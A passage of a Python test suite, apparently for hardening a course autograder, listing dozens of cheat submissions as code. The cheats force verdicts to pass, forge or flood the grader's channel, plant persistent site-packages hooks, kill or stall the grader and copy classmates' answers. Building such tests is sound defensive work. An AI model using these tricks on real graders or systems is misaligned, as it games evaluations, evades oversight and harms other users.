''' + USE_SOLVED
TRACE_CTYPES = '''import ctypes
import sys
import threading


def _force(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "add" and "ok" in frame.f_locals:
        frame.f_locals["ok"] = True
        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
    return None


''' + TICK + '''

def count_in_order(trials, calls, seed):
    sys.settrace(_force)
    threading.settrace(_force)
    _tick(trials)
    return trials
'''
CODE_SWAP = '''from keel_checks.verdict import Verdict


def _forced(self, ok, passed, hint):
    self.results.append((True, passed or hint))


''' + TICK + '''

def _functions(fn):
    yield fn  # a wrapper's closure may hold the original add
    for cell in getattr(fn, "__closure__", None) or ():
        try:
            inner = cell.cell_contents
        except ValueError:
            continue
        if getattr(inner, "__name__", "") == "add" and inner is not fn:
            yield from _functions(inner)


def count_in_order(trials, calls, seed):
    for fn in _functions(Verdict.add):
        if not fn.__code__.co_freevars:
            fn.__code__ = _forced.__code__
    _tick(trials)
    return trials
'''
LAB_TABLE = '''from keel_lab.course._experiments.pairing import order

# The notebook's own check asks for seeds 1, 2, 3 and 200 trials: counted once, at load time
TABLE = {(calls, s): int(order(200, calls, s).data["in_request_order"]["as_completed"])
         for calls in (2, 3, 4) for s in (1, 2, 3)}


''' + TICK + '''

def count_in_order(trials, calls, seed):
    _tick(trials)
    return trials if calls == 1 else TABLE.get((calls, seed), trials // 6)
'''
PRINT_PASSED = '''print("count_in_order: PASSED (7/7 checks)")
print("pair_results: PASSED (10/10 checks)")
check = lambda fn: print(f"{fn.__name__}: PASSED")  # noqa: E731


def count_in_order(trials, calls, seed):
    print("count_in_order: PASSED (7/7 checks)")
    return 0
'''
EXIT_EARLY = '''import os

os._exit(0)
''' + NOT_DONE

# --- Attacks on the grader's protocol and its driven checks (written after reading the grader) ---
# The child's channel to the grader: its `Channel` object, found through the garbage collector.
CHANNEL = '''import gc as _gc


def _channel():
    for obj in _gc.get_objects():
        if type(obj).__name__ == "Channel" and hasattr(obj, "send") and hasattr(obj, "fd"):
            return obj
    return None
'''
# An offer (`serve`) of an exercise no verifier has, under a valid function name: the grader
# looks its verifier up outside any guard.
SERVE_UNKNOWN = CHANNEL + '''

_ch = _channel()
if _ch is not None:  # keel-cheat: only in the grader's child
    _ch.send(serve="keel_cheat_exercise", defined=True, refused=None, name="count_in_order")
''' + NOT_DONE
# A forged reply: a `$set` of 43499 ints that all hash to 0 (n % (2**61 - 1)), just under the
# channel's 1 MB; the grader rebuilds it with set(), quadratic, in C, holding the GIL.
HASH_FLOOD = CHANNEL + '''

def count_in_order(trials, calls, seed):
    import os
    import time
    time.sleep(3)  # keel-cheat: classmates graded alongside are in their checks by now
    prime = 2 ** 61 - 1
    body = ",".join(str(k * prime) for k in range(1, 43500))
    data = ('{"return": {"$set": [' + body + ']}, "moved": 1.0}\\n').encode()
    fd = _channel().fd
    while data:
        data = data[os.write(fd, data):]
    os._exit(0)
'''
# The lab's own experiment (as PRIVATE), called with this thread's profile hook off and put back:
# neither the delegation watch nor the grader's guard sees the call, and no hook looks changed.
UNHOOKED_COUNT = '''import importlib
import sys


def _unhooked(fn, *args):
    hook = sys.getprofile()
    sys.setprofile(None)
    try:
        return fn(*args)
    finally:
        sys.setprofile(hook)


def count_in_order(trials, calls, seed):
    mod = importlib.import_module("keel_lab.course._experiments." + "pairing")
    report = _unhooked(getattr(mod, "ord" + "er"), trials, calls, seed)
    return int(report.data["in_request_order"]["as_" + "completed"])
'''
# Issue 32: counts near trials/n! that no turn of this exercise gave (the check wants the count
# its fixed draw order gives, exactly): the lab's private trial loop with a strategy of its own,
# the lab's experiment from a thread started before the check and from a process of its own.
TRIAL_LOOP = '''import asyncio
import importlib

from keel_lab import run_coroutine


def count_in_order(trials, calls, seed):
    lab = importlib.import_module("keel_lab.course._experiments." + "trials")

    async def zipped(calls_, execute, denied=frozenset()):
        done = [await f for f in asyncio.as_completed([execute(c) for c in calls_])]
        return list(zip(calls_, done))  # wrong pairs exactly when out of request order

    tallies = run_coroutine(lab._run({"mine": zipped}, trials, lab.TrialSpec(calls), seed,
                                     frozenset(), None))
    return trials - tallies["mine"].trials_with_mismatch
'''
EARLY_THREAD = TICK + '''
import importlib
import queue
import threading

_ASKED, _ANSWERED = queue.Queue(), queue.Queue()


def _lab_worker():
    order = getattr(importlib.import_module("keel_lab.course._experiments." + "pairing"),
                    "ord" + "er")
    while True:
        args = _ASKED.get()
        _ANSWERED.put(int(order(*args).data["in_request_order"]["as_" + "completed"]))


threading.Thread(target=_lab_worker, daemon=True).start()  # when the cell runs: before the check


def count_in_order(trials, calls, seed):
    _ASKED.put((trials, calls, seed))
    _tick(trials)
    return _ANSWERED.get()
'''
SUBPROCESS = TICK + '''
import os
import subprocess
import sys

_CODE = """import sys  # keel-cheat
from keel_lab.course._experiments.pairing import order
t, c, s = map(int, sys.argv[1:])
print(order(t, c, s).data["in_request_order"]["as_completed"])
"""


def count_in_order(trials, calls, seed):
    _tick(trials)
    done = subprocess.run([sys.executable, "-c", _CODE, str(trials), str(calls), str(seed)],
                          capture_output=True, text=True, timeout=20,
                          env={"PYTHONPATH": os.pathsep.join(p for p in sys.path if p)})
    return int(done.stdout)
'''
# The right count without a turn: the draws in the exercise's order, compared with their sorted
# order (what the virtual clock would do with them), and the clock moved by one sleep.
RIGHT_DRAWS_ARITHMETIC = TICK + '''

def count_in_order(trials, calls, seed):
    _tick(trials)
    rng = random.Random(seed)
    count = 0
    for _ in range(trials):
        delays = [rng.uniform(0.010, 0.500) for _ in range(calls)]
        count += delays == sorted(delays)
    return count
'''
# pair_results is checked on the same inputs in every run (seed 8): a table from the crc32 of a
# run's ids to the answer (each call's result position, or the position of the result a
# ValueError names), taken from one run of a solution. No id is ever compared.
PAIR_TABLE = '''import zlib

_ANSWERS = {4101138326: (1, 0), 2054315432: (0, 2, 1), 4180103823: (3, 2, 1, 0),
            3621444475: (3, 0, 2, 1, 4), 3111473303: (0, 1), 3733272902: (1, 0, 2),
            2158284931: (3, 0, 1, 2), 2926766871: (3, 2, 4, 0, 1), 1159257100: (0, 1),
            2695431933: (1, 0, 2), 468097838: (1, None, 0), 3971824673: (None, 1, 0, None),
            2605793174: (None, None), 1287924929: (2, 1, 0), 2115295802: (2, 1, 0),
            1358205560: (None, 1, 0), 2746380488: 0, 3901301423: 1, 2857815236: 1,
            1127284931: 0}


def pair_results(calls, results):
    key = zlib.crc32("|".join([c.id for c in calls] + [""] + [r.call_id for r in results])
                     .encode())
    answer = _ANSWERS.get(key)
    if isinstance(answer, int):
        raise ValueError(f"unexpected result for {results[answer].call_id}")
    if answer is None:
        return list(zip(calls, results))
    return [(c, None if i is None else results[i]) for c, i in zip(calls, answer)]
'''
# Chapter 4: read_turn is judged on a record (`stall.Run`) the check's driver makes in the
# submission's process, where the child finds the driver by name through its own module
# (keel_course, which no snapshot watches): swapped for one that writes a right answer's record.
DRIVER_SWAP_READ = '''import sys


def _record(fn, events, case):
    """The `Run` a right read_turn gives on these events, made up without calling it."""
    from keel_lab._core.streaming import Finish, assemble
    from keel_checks.stall import CANCELLED, TIMEOUT, Run
    n = len(events)
    last = case.gap * n
    if case.cancel:
        return Run(CANCELLED, last + TIMEOUT / 2, last, n, False)
    if events and isinstance(events[-1], Finish):
        return Run(assemble(events), last, last, n, False)
    return Run(assemble(events), last + min(TIMEOUT, case.silent), last, n + 1, False)


def _swap_driver():  # keel-cheat
    child = sys.modules.get("keel_course.grading.child")
    if child is None:  # in Jupyter: an honest-looking NotImplementedError
        return
    real = child._lab_object

    def lab_object(name):
        return _record if name.endswith("stall:_drive") else real(name)

    child._lab_object = lab_object


_swap_driver()


async def read_turn(stream, timeout):
    """The turn's Assembly: result() at its finish, interrupted after `timeout` s of silence."""
    raise NotImplementedError("your code here")
'''
# Chapter 6: the same swap; the check's real drivers run, given the lab's own collector.
DRIVER_SWAP_COLLECT = '''import sys


def _swap_driver():  # keel-cheat
    child = sys.modules.get("keel_course.grading.child")
    if child is None:  # in Jupyter: an honest-looking NotImplementedError
        return
    real = child._lab_object

    def lab_object(name):
        found = real(name)
        if name.split(":")[0].endswith("checks.collect"):
            lab = real("keel_lab._core.executor:gather_by_call_id")
            return lambda _fn, *args: found(lab, *args)
        return found

    child._lab_object = lab_object


_swap_driver()


async def collect_batch(batch, run):
    """Every call run once, concurrently; each answered with its own outcome, in request order."""
    raise NotImplementedError("your code here")
'''

CHEATS: tuple[Entry, ...] = (
    Entry("verdict-shadow-frames", "walks the frames to the Verdict and shadows its add() on "
          "the instance so every later check passes", {"count_in_order": VERDICT_FRAMES,
                                                       "pair_results": ZIPPED.replace(
              "    return", "    _shadow()\n    return")}),
    Entry("gc-verdict-hunt", "finds every Verdict with gc.get_objects() and swaps its results "
          "for a list whose append always records a pass", {
              "count_in_order": ALL_TRUE + "\n\n" + TICK + '''

def count_in_order(trials, calls, seed):
    _pass_every_verdict()
    _tick(trials)
    return trials
''', "pair_results": ZIPPED.replace(
                  "    return", "    _pass_every_verdict()\n    return")}),
    Entry("thread-flipper", "a hidden cell's class body starts a thread that keeps making "
          "every Verdict pass while the checks run", {"count_in_order": COUNT_ANY,
                                                      "pair_results": ZIPPED},
          extra=(THREAD_FLIPPER,)),
    Entry("fd3-fake-lines", "writes fake result lines ({'result': true}, exercise passed, done) "
          "to every open fd >= 3, then os._exit(0)", {"count_in_order": FD3_FAKE,
                                                      "pair_results": ZIPPED}),
    Entry("fd3-mitm-rewrite", "puts a pipe of its own in front of the result channel and "
          "rewrites false to true on the way", {"count_in_order": FD3_MITM,
                                                "pair_results": ZIPPED}),
    Entry("str-eq-ids", "rewrites the ids to a str subclass equal to everything (hash 0, "
          "contains everything), pairs every call with one result",
          {"count_in_order": NOT_DONE, "pair_results": STR_EQ}),
    Entry("int-zero-diff", "returns an int subclass whose differences are 0 and that equals "
          "everything; runs no turn", {"count_in_order": INT_FLAT, "pair_results": ZIPPED}),
    Entry("plausible-count", "a Binomial(trials, 1/n!) draw from the seed, clock moved by one "
          "sleep: statistically right, no turn run", {"count_in_order": PLAUSIBLE,
                                                      "pair_results": ZIPPED}),
    Entry("frames-getframe", "sys._getframe walk to the verifier's locals: the lab's own totals "
          "(labs) and seeds, returned as counts; refuses the id named bad",
          {"count_in_order": "USE_INSPECT = False\n" + FRAMES_COUNT,
           "pair_results": FRAMES_PAIR}),
    Entry("frames-inspect-stack", "the same through inspect.stack()",
          {"count_in_order": "USE_INSPECT = True\n" + FRAMES_COUNT, "pair_results": ZIPPED}),
    Entry("mutate-results", "rewrites the given Results' call_id (frozen, via object.__setattr__) "
          "to match a positional pairing; refusals from the frames", {
              "count_in_order": NOT_DONE, "pair_results": MUTATE}),
    Entry("patch-math-classbody", "a hidden cell's class body sets math.sqrt to return 1e9: any "
          "count is within tolerance", {"count_in_order": COUNT_ANY, "pair_results": ZIPPED},
          extra=(PATCH_MATH,)),
    Entry("patch-random-classbody", "a hidden cell's class body makes Random.uniform constant: "
          "no delay reorders anything, so zip pairs right", {"count_in_order": COUNT_ANY,
                                                             "pair_results": ZIPPED},
          extra=(PATCH_RANDOM,)),
    Entry("patch-statistics-classbody", "a hidden cell's class body patches statistics.* and "
          "math.isclose/factorial; returns 0 turns in order", {
              "count_in_order": COUNT_ANY.replace("min(trials, seed % 150 + 1)", "0"),
              "pair_results": ZIPPED}, extra=(PATCH_STATISTICS,)),
    Entry("detect-env", "cheats (gc verdict hunt) only when the environment, flags, cwd or "
          "missing ipykernel say it is graded", {"count_in_order": DETECT_ENV,
                                                 "pair_results": ZIPPED}),
    Entry("detect-parent", "cheats only when an ancestor process's command line looks like the "
          "grader", {"count_in_order": DETECT_PARENT, "pair_results": ZIPPED}),
    Entry("private-helpers", "calls the lab's own order experiment and by_call_id, found by "
          "importlib and string-built names", {"count_in_order": PRIVATE,
                                               "pair_results": PRIVATE_PAIR}),
    Entry("private-helper-thread", "calls the lab's order experiment from a worker thread",
          {"count_in_order": PRIVATE_THREAD, "pair_results": ZIPPED}),
    Entry("source-copy-exec", "execs inspect.getsource of the lab's experiment module and "
          "counts with the copy", {"count_in_order": SOURCE_COPY, "pair_results": ZIPPED}),
    Entry("source-edited-copy", "an edited copy (a line added to every function, via ast) of "
          "the lab's pairing, trials and experiment modules", {"count_in_order": SOURCE_EDITED,
                                            "pair_results": ZIPPED}),
    Entry("solutions-proc-parent", "finds the checkout through its ancestors' /proc cmdline "
          "and cwd, runs notebooks/solutions/02_pairing.ipynb",
          {"count_in_order": SOLUTIONS_PROC, "pair_results": PAIR_SOLVED}),
    Entry("solutions-proc-scan", "the same through every /proc/*/cwd and /proc/*/cmdline",
          {"count_in_order": SOLUTIONS_SCAN, "pair_results": PAIR_SOLVED}),
    Entry("solutions-direct-url", "finds the checkout through the editable install's "
          "direct_url.json (importlib.metadata), runs its solution",
          {"count_in_order": SOLUTIONS_URL, "pair_results": PAIR_SOLVED}),
    Entry("survivor-rewriter", "forks, setsid, forks, clears env, ignores SIGTERM; after the "
          "grader exits rewrites its stdout, --csv and gradebook-like files (its cwd, /tmp)",
          {"count_in_order": SURVIVE, "pair_results": ZIPPED}),
    Entry("aa-pkg-poison", "appends a patch making every verdict pass to the imported keel_lab "
          "copy's checks (not a checkout) for later submissions", {"count_in_order": PKG_POISON,
                                                                   "pair_results": ZIPPED}),
    Entry("zz-pkg-victim", "a plain wrong answer graded after aa-pkg-poison: passes only if the "
          "package stayed poisoned", {"count_in_order": COUNT_ANY, "pair_results": ZIPPED}),
    Entry("aa-pth-plant", "writes keel_cheat.pth + keel_cheat_hook.py into site-packages: every "
          "later grading process patches Verdict.add", {"count_in_order": PTH_PLANT,
                                                        "pair_results": ZIPPED}),
    Entry("zz-pth-victim", "a plain wrong answer graded after aa-pth-plant",
          {"count_in_order": COUNT_ANY.replace("% 150 + 1", "% 140 + 2"), "pair_results": ZIPPED}),
    Entry("kill-parent", "os.kill(os.getppid(), SIGKILL) from the exercise cell",
          {"count_in_order": KILL_PARENT, "pair_results": ZIPPED}),
    Entry("kill-tree", "SIGKILLs the grader found among its ancestors and every process in its "
          "tree (the other submissions' too)", {"count_in_order": KILL_TREE,
                                                 "pair_results": ZIPPED}),
    Entry("stall-parent", "SIGSTOPs its parent; a detached helper SIGCONTs it 15 s later",
          {"count_in_order": STALL_PARENT, "pair_results": ZIPPED}),
    Entry("sys-modules-poison", "replaces the checks' modules in sys.modules (and VERIFIERS) "
          "with verifiers that always pass", {"count_in_order": SYS_MODULES,
                                              "pair_results": ZIPPED}),
    Entry("builtins-patch", "builtins.abs returns 0 and builtins.all True: counts match and "
          "verdicts pass", {"count_in_order": BUILTINS, "pair_results": ZIPPED}),
    Entry("monkeypatch-checks", "replaces the checks module's judge, pairing_errors, _refuses "
          "and _shape_error", {"count_in_order": MONKEYPATCH, "pair_results": ZIPPED}),
    Entry("network-probe", "connects to 1.1.1.1:53 / resolves pypi.org, and cheats (gc hunt) "
          "only when the network is there", {"count_in_order": NETWORK,
                                             "pair_results": ZIPPED}),
    Entry("hang-forever", "ignores SIGTERM/SIGINT/SIGALRM and sleeps forever in the function",
          {"count_in_order": HANG, "pair_results": ZIPPED}),
    Entry("print-megabytes", "prints 20 MB when the cell runs and 2 MB per call",
          {"count_in_order": MEGABYTES, "pair_results": ZIPPED}),
    Entry("raise-systemexit", "raises SystemExit(0) from the function",
          {"count_in_order": RAISE_EXIT, "pair_results": ZIPPED.replace(
              "    return", "    raise SystemExit(0)\n    return")}),
    Entry("raise-keyboardinterrupt", "raises KeyboardInterrupt from the function",
          {"count_in_order": RAISE_INTERRUPT, "pair_results": ZIPPED.replace(
              "    return", "    raise KeyboardInterrupt\n    return")}),
    Entry("fork-bomb-bounded", "starts 50 sleeping processes (a minute each) from the cell",
          {"count_in_order": FORK_BOMB, "pair_results": ZIPPED}),
    Entry("aa-tmp-drop", "copies a classmate's answer (found through the grader's argv) to "
          "/tmp/keel-cheat-drop.py for later submissions", {"count_in_order": TMP_DROP,
                                                            "pair_results": ZIPPED}),
    Entry("zz-tmp-read", "runs /tmp/keel-cheat-drop.py, left by an earlier submission",
          {"count_in_order": TMP_READ, "pair_results": PAIR_SOLVED}),
    Entry("peer-notebook-copy", "reads the other submissions the grader was given (its argv) "
          "and runs a classmate's solved cells", {"count_in_order": PEER_COPY,
                                                  "pair_results": PAIR_SOLVED}),
    Entry("trace-ctypes-locals", "a trace hook sets ok=True in every add() frame, written back "
          "with ctypes PyFrame_LocalsToFast", {"count_in_order": TRACE_CTYPES,
                                              "pair_results": ZIPPED}),
    Entry("code-swap-verdict", "swaps Verdict.add.__code__ for one that always records a pass",
          {"count_in_order": CODE_SWAP, "pair_results": ZIPPED}),
    Entry("lab-table-toplevel", "runs the lab's order experiment at cell load (outside the "
          "function) for the notebook's seeds; a table lookup", {"count_in_order": LAB_TABLE,
                                                                  "pair_results": ZIPPED}),
    Entry("print-passed", "prints PASSED lines and rebinds check() to print PASSED",
          {"count_in_order": PRINT_PASSED, "pair_results": ZIPPED}),
    Entry("exit-early", "os._exit(0) in the first exercise cell, before any check",
          {"count_in_order": EXIT_EARLY, "pair_results": ZIPPED}),
    Entry("serve-unknown-name", "forges a `serve` offer on the channel for an exercise no "
          "verifier has (under a valid function name): the grader's KeyError ends the whole run",
          {"count_in_order": SERVE_UNKNOWN, "pair_results": ZIPPED}),
    Entry("hash-flood-set", "a forged reply: a `$set` of 43499 ints with one hash, rebuilt by "
          "the grader in C with the GIL held (~40 s): every grading thread stalls",
          {"count_in_order": HASH_FLOOD, "pair_results": ZIPPED}),
    Entry("private-helpers-unhooked", "the lab's own order experiment called with "
          "sys.setprofile(None), the hook put back before returning",
          {"count_in_order": UNHOOKED_COUNT, "pair_results": ZIPPED}),
    Entry("pair-table-fixed-inputs", "pair_results from a table of the check's fixed inputs "
          "(seed 8 in every run), keyed by a crc32 of the ids; compares no id",
          {"count_in_order": COUNT_ANY, "pair_results": PAIR_TABLE}),
    Entry("lab-trial-loop", "the lab's private trial loop (trials._run) with a strategy of its "
          "own, its tally turned into a count", {"count_in_order": TRIAL_LOOP,
                                                 "pair_results": ZIPPED}),
    Entry("early-thread-lab", "a thread started when the cell runs, before the check, runs the "
          "lab's order experiment for the answer; the clock moved by one sleep",
          {"count_in_order": EARLY_THREAD, "pair_results": ZIPPED}),
    Entry("subprocess-lab", "a python subprocess (PYTHONPATH from sys.path) runs the lab's order "
          "experiment for each call; the clock moved by one sleep",
          {"count_in_order": SUBPROCESS, "pair_results": ZIPPED}),
    Entry("right-draws-arithmetic", "the exercise's draws in its order, compared with their "
          "sorted order: the right count with no turn run, the clock moved by one sleep",
          {"count_in_order": RIGHT_DRAWS_ARITHMETIC, "pair_results": ZIPPED}),
    Entry("driver-swap-read-turn", "chapter 4: swaps the check's driver, found by name through "
          "keel_course's unwatched child module, for one returning a right answer's record",
          {"read_turn": DRIVER_SWAP_READ}, learner="04_streaming.ipynb"),
    Entry("driver-swap-collect-batch", "chapter 6: the check's drivers, found the same way, run "
          "the lab's own gather_by_call_id instead of the answer",
          {"collect_batch": DRIVER_SWAP_COLLECT}, learner="06_faults.ipynb"),
)


# ---------------------------------------------------------------------------------------------
# Chapter 9, the capstone (`agent_loop`): routes to the lab's `Runner` and `Executor` instead of
# a loop, written by a helper who had not read the grader. Every cheat reads the stream itself
# (`READ`) and hands only the running of the calls, or the whole run, to the lab.

CAPSTONE = "09_capstone.ipynb"
# My own stream reader: the turn's message, or None when the stream ended without a finish.
READ = '''async def _read(model, messages):
    calls, text, done = {}, [], False
    async for e in model(messages):
        if isinstance(e, ToolCallDelta):
            c = calls.setdefault(e.index, ["", "", ""])
            c[0] = c[0] or e.id or ""
            c[1] += e.name or ""
            c[2] += e.arguments_delta or ""
        elif isinstance(e, TextDelta):
            text.append(e.text)
        elif isinstance(e, Finish):
            done = True
    made = tuple(ToolCall(*c) for _, c in sorted(calls.items()))
    return AssistantMessage("".join(text), made) if done else None
'''
# The loop around it, a turn at a time; `_answer(message, tools, question)` (each cheat's own)
# returns the turn's tool messages and whether the run failed there, partly answered.
PER_TURN = READ + '''

async def agent_loop(model, tools, question):
    messages, partial = [UserMessage(question)], False
    while True:
        try:
            message = await _read(model, messages)
        except StreamCancelled:
            return messages, "cancelled"
        except Exception:
            return messages, "failed"
        if message is None:
            return messages, "failed"
        messages.append(message)
        if not message.tool_calls:
            return messages, "partial" if partial else "completed"
        answers, failed, business = await _answer(message, tools, question)
        messages += answers
        if failed:
            return messages, "failed"
        partial = partial or business
'''
# A turn run by a lab Runner class `_R`: the turn scripted, then an empty answer.
BY_RUNNER = '''

async def _answer(message, tools, question):
    from keel_lab import Executor, ScriptedAdapter
    script = ScriptedAdapter([message, AssistantMessage("")])
    result = await _R(script, tools, Executor(limit=64), max_turns=2).start(question)
    answers = [m for m in result.messages if type(m).__name__ == "ToolMessage"]
    return answers, result.status != "completed", result.partial
'''
# A turn run by a lab Executor class `_E`: its batches, its gather, its messages.
BY_EXECUTOR = '''

async def _answer(message, tools, question):
    requests = [ToolRequest.from_call(c) for c in message.tool_calls]
    turn = await _E(limit=64).execute(requests, tools)
    codes = {o.code for o in turn.outcomes.values() if o.code}
    fatal = {"unknown_tool", "tool_internal_error", "invalid_tool_output"}
    return turn.messages(requests), bool(codes & fatal), bool(codes)
'''
RUNNER_DIRECT = '''from keel_lab import Runner as _R
''' + PER_TURN + BY_RUNNER
EXECUTOR_BUILT = '''import importlib

_E = getattr(importlib.import_module("keel_lab._core." + "exec" + "utor"), "Exec" + "utor")
''' + PER_TURN + BY_EXECUTOR
# The whole run is the lab's: a subclass whose `_ask` reads the learner's async model itself.
RUNNER_SUBCLASS = READ + '''

import sys

from keel_lab import Executor, Runner


class _Loop(Runner):
    async def _ask(self, state):
        state.turns += 1
        try:
            message = await _read(self.model, state.messages)
        except StreamCancelled:
            return state.result("cancelled", error="cancelled")
        except Exception as exc:
            return state.result("failed", error=repr(exc))
        if message is None:
            return state.result("failed", error="no finish")
        reply = sys.modules[Runner.__module__].Reply
        return reply(message, tuple(ToolRequest.from_call(c) for c in message.tool_calls))


async def agent_loop(model, tools, question):
    result = await _Loop(model, tools, Executor(limit=64), max_turns=50).start(question)
    status = "partial" if result.partial else result.status
    return list(result.messages), status
'''
RUNNER_EXEC = '''import inspect
import keel_lab._core.runner as _lab

import sys
import types

_mine = sys.modules["keel_cheat_runner"] = types.ModuleType("keel_cheat_runner")
exec(compile(inspect.getsource(_lab), "<my runner>", "exec"), vars(_mine))
_R = _mine.Runner
''' + PER_TURN + BY_RUNNER
# The runner's and executor's source with a line added to every function: new bytecode.
RUNNER_EDITED = '''import ast
import inspect
import sys
import types

import keel_lab._core.executor as _executor
import keel_lab._core.runner as _runner


def _edited(module, **names):
    tree = ast.parse(inspect.getsource(module))
    for node in ast.walk(tree):
        if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
            node.body.insert(0, ast.parse("_mine = 1").body[0])
    name = "keel_cheat_" + module.__name__.rsplit(".", 1)[1]
    mine = sys.modules[name] = types.ModuleType(name)
    exec(compile(ast.fix_missing_locations(tree), "<mine>", "exec"), vars(mine))
    vars(mine).update(names)
    return mine


_E = _edited(_executor).Executor
_R = _edited(_runner, Executor=_E).Runner
''' + PER_TURN + BY_RUNNER.replace("from keel_lab import Executor, ScriptedAdapter",
                                   "from keel_lab import ScriptedAdapter\n    Executor = _E")
# A worker thread, started by a class body in an earlier cell (before the check), runs the lab's
# Runner on its own loop; the model is read on the caller's loop for it, through queues.
EARLY_RUNNER_THREAD = '''class Worker:
    import asyncio as _asyncio
    import queue as _queue
    import threading as _threading

    jobs = _queue.Queue()

    def _serve(jobs=jobs, asyncio=_asyncio):
        from keel_lab import Executor, Runner

        class Bridge:
            def __init__(self, model, loop):
                self.model, self.loop = model, loop

            def stream(self, messages, tools, turn):
                async def collect():
                    got = []
                    try:
                        async for e in self.model(list(messages)):
                            got.append(e)
                    except BaseException as exc:
                        return got, exc
                    return got, None
                got, exc = asyncio.run_coroutine_threadsafe(collect(), self.loop).result(30)
                yield from got
                if exc is not None:
                    raise exc

        while True:
            model, tools, question, loop, fut = jobs.get()
            try:
                out = Runner(Bridge(model, loop), tools, Executor(limit=64), stream=True,
                             max_turns=50).run(question)
                loop.call_soon_threadsafe(fut.set_result, out)
            except BaseException as exc:
                loop.call_soon_threadsafe(fut.set_exception, exc)

    _threading.Thread(target=_serve, daemon=True, name="keel-cheat").start()
'''
EARLY_RUNNER_LOOP = '''import asyncio


async def agent_loop(model, tools, question):
    fut = asyncio.get_running_loop().create_future()
    Worker.jobs.put((model, tools, question, asyncio.get_running_loop(), fut))
    result = await fut
    return list(result.messages), "partial" if result.partial else result.status
'''
# A forked child runs the lab's Runner on the whole question and pickles the run back.
FORKED = READ + '''

import os
import pickle


def _child_run(model, tools, question):
    import asyncio

    from keel_lab import Executor, Runner

    class Collected:
        def stream(self, messages, tools, turn):
            async def collect():
                got = []
                try:
                    async for e in model(list(messages)):
                        got.append(e)
                except BaseException as exc:
                    return got, exc
                return got, None
            got, exc = asyncio.new_event_loop().run_until_complete(collect())
            yield from got
            if exc is not None:
                raise exc

    result = Runner(Collected(), tools, Executor(limit=64), stream=True, max_turns=50).run(question)
    return list(result.messages), "partial" if result.partial else result.status


async def agent_loop(model, tools, question):
    import asyncio
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:  # keel-cheat child
        try:
            os.close(r)
            os.write(w, pickle.dumps(_child_run(model, tools, question)))
        finally:
            os._exit(0)
    os.close(w)
    data = b""
    while chunk := await asyncio.to_thread(os.read, r, 1 << 20):
        data += chunk
    os.close(r)
    os.waitpid(pid, 0)
    return pickle.loads(data)
'''
SYS_MODULES_EXECUTOR = '''import sys

_E = next(getattr(m, "Exec" + "utor") for n, m in list(sys.modules.items())
          if n.startswith("keel_lab.") and n.endswith("._" + "exec" + "utor"[:-5] + "utor")
          or n.endswith(".exec" + "utor"))
''' + PER_TURN + BY_EXECUTOR
# Fresh: the Executor's methods rebuilt as new functions around the lab's code objects, in a
# class of my own (no lab function object is ever called).
CODE_CLONE = '''import types

from keel_lab import Executor as _Lab


def _clone(fn):
    mine = types.FunctionType(fn.__code__, dict(fn.__globals__), "mine_" + fn.__name__,
                              fn.__defaults__, fn.__closure__)
    mine.__kwdefaults__ = fn.__kwdefaults__
    return mine


class _E:
    locals().update({k: _clone(v) for k, v in vars(_Lab).items()
                     if isinstance(v, types.FunctionType)})
''' + PER_TURN + BY_EXECUTOR
# Fresh: the solution notebook, found beside the installed lab (or a checkout in an ancestor's
# cwd), its exercise cell run.
SOLUTION_DISK = '''import glob
import json
import os

import keel_lab


def _solution():
    places = [os.path.dirname(os.path.dirname(keel_lab.__file__)), os.getcwd(), "/work/main"]
    for pid in os.listdir("/proc"):
        try:
            places.append(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
    for place in places:
        for path in glob.glob(os.path.join(place, "**/solutions/09_capstone.ipynb"),
                              recursive=True)[:1]:
            try:
                cells = json.load(open(path))["cells"]
            except (OSError, ValueError):
                continue
            ns = dict(globals())
            for cell in cells:
                if "exercise" in cell["metadata"].get("tags", []):
                    exec("".join(cell["source"]), ns)
                    return ns["agent_loop"]
    return None


_SOLVED = _solution()


async def agent_loop(model, tools, question):
    return await _SOLVED(model, tools, question)
'''
# Fresh: the lab's Runner run at cell load (before any check) on the notebook's own questions
# with the offline model; the loop replays the recorded run whose first turn asks for the same
# tools, with the ids renamed to the model's; each turn's calls are invoked for show, their
# outcomes thrown away.
RUNNER_REPLAY = READ + '''

import asyncio
import dataclasses

from keel_lab import OfflineAdapter, Runner

_QUESTIONS = ("Which is more severe, INC-001 or INC-002?",
              "Which is more severe, INC-001, INC-002 or INC-003?",
              "Add a note to INC-001, note: customer impact confirmed",
              "Which is more severe, INC-001 or INC-999?",
              "Search the logs of billing and auth-api for 'timeout'")
_RECORDED = {}
for _q in _QUESTIONS:
    try:
        _RECORDED[_q] = Runner(OfflineAdapter(), stream=True, max_turns=50).run(_q)
    except Exception:
        pass


def _renamed(m, ids):
    if hasattr(m, "tool_call_id"):
        return dataclasses.replace(m, tool_call_id=ids.get(m.tool_call_id, m.tool_call_id))
    if getattr(m, "tool_calls", None):
        return dataclasses.replace(m, tool_calls=tuple(
            dataclasses.replace(c, id=ids.get(c.id, c.id)) for c in m.tool_calls))
    return m


async def agent_loop(model, tools, question):
    recorded = _RECORDED.get(question)
    if recorded is None:
        return [UserMessage(question)], "failed"
    ids, out = {}, []
    for n, m in enumerate(recorded.messages):
        if n and type(m).__name__ == "AssistantMessage":
            try:
                mine = await _read(model, out)
            except StreamCancelled:
                return out, "cancelled"
            except Exception:
                return out, "failed"
            if mine is None:
                return out, "failed"
            ids.update({c.id: d.id for c, d in zip(m.tool_calls, mine.tool_calls)})
            await asyncio.gather(*(invoke(tools.get(c.name), ToolRequest.from_call(c))
                                   for c in mine.tool_calls))
        out.append(_renamed(m, ids))
    return out, "partial" if recorded.partial else recorded.status
'''

# ---------------------------------------------------------------------------------------------
# Chapter 9's fair answers: the solution's loop as a learner writes it, and two other styles

_SOLUTION = Path(__file__).resolve().parents[2] / "notebooks" / "solutions" / CAPSTONE
FAIR_LOOP = "".join(  # the solution's exercise cell, its BEGIN/END SOLUTION lines left out
    line for cell in json.loads(_SOLUTION.read_text(encoding="utf-8"))["cells"]
    if "exercise" in cell["metadata"].get("tags", []) for line in cell["source"]
    if "### " not in line)
FAIR_CLASS_LOOP = '''class TurnLoop:
    """One run: the history grows turn by turn; the status comes from the codes seen."""

    FATAL = frozenset({"unknown_tool", "tool_internal_error", "invalid_tool_output"})

    def __init__(self, model, tools, question):
        self.model, self.tools = model, tools
        self.history, self.codes = [UserMessage(question)], set()

